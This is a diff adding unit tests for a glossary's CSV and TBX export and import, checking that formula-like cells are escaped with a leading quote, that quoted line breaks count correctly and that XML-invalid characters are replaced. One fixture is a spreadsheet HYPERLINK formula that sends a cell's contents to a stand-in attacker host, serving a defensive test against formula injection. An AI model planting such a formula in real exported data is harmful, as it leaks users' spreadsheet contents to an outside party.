@@ -47,6 +47,34 @@ describe('glossary CSV', () => {
     expect(parseGlossaryCsv(writeGlossaryCsv(TRICKY))).toEqual(TRICKY);
   });
 
+  test('writes a term that starts like a formula after a single quote, quoted, and reads it back as it was', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1;"wniosek")';
+    const terms = [
+      termFields('Antrag', hyperlink, { status: 'proposed' }),
+      termFields('-5 Grad', '-5 stopni', { note: '@Koordination: prüfen', forbidden: ['+5 stopni', 'minus pięć'] }),
+      termFields("'=Zitat", 'cytat'),
+    ];
+    const csv = writeGlossaryCsv(terms);
+    expect(csv.split('\r\n').slice(1)).toEqual([
+      'Antrag,"\'=HYPERLINK(""http://evil.example/?d=""&A1;""wniosek"")",,,false,,proposed,false',
+      '"\'-5 Grad","\'-5 stopni","\'@Koordination: prüfen",,false,"\'+5 stopni|minus pięć",approved,false',
+      '"\'\'=Zitat",cytat,,,false,,approved,false',
+      '',
+    ]);
+    expect(parseGlossaryCsv(csv)).toEqual(terms);
+  });
+
+  test('removes one quote before a formula-like cell of a file from elsewhere, and keeps other quotes', () => {
+    expect(parseGlossaryCsv("de,pl\n'=A,'Kreis'\n")).toEqual([termFields('=A', "'Kreis'")]);
+  });
+
+  test('counts a CRLF inside a quoted field as one line', () => {
+    const error = errorOf(() => parseGlossaryCsv('de,pl,note\r\nA,B,"x\r\ny"\r\nC,,z\r\n'));
+    expect([error.line, error.reason]).toEqual([4, 'pl is empty']);
+    const quoting = errorOf(() => parseGlossaryCsv('de,pl,note\r\nA,B,"x\r\ny"\r\nC,D"E,z\r\n'));
+    expect([quoting.line, quoting.reason]).toEqual([4, 'a quote inside an unquoted field (quote the whole field and double the quote)']);
+  });
+
   test('reads columns in any order, optional columns left out, LF line ends, a BOM and blank lines', () => {
     const csv = '\uFEFFpl,DE,status\nmiasto,Stadt,\n\n"powiat zgorzelecki",Landkreis Görlitz,proposed\n';
     expect(parseGlossaryCsv(csv)).toEqual([
@@ -89,6 +117,13 @@ describe('glossary TBX', () => {
     const xml = writeGlossaryTbx(TRICKY);
     expect(xml).toContain('<term>Straße &amp; Platz &lt;A&gt;</term>');
     expect(parseGlossaryTbx(xml)).toEqual({ terms: TRICKY, skipped: 0 });
+  });
+
+  test('writes a character XML cannot hold (in a note or the title) as U+FFFD, and a carriage return as a reference', () => {
+    const xml = writeGlossaryTbx([termFields('Grenzraum', 'pogranicze', { note: 'a\u0001b\rc' })], 'Glossar\u0002');
+    expect(xml).toContain('<title>Glossar\uFFFD</title>');
+    expect(xml).toContain('<note>a\uFFFDb&#13;c</note>');
+    expect(parseGlossaryTbx(xml).terms[0]!.note).toBe('a\uFFFDb\rc');
   });
 
   test('writes TBX-Basic: a martif with one termEntry per term, statuses as termNotes', () => {
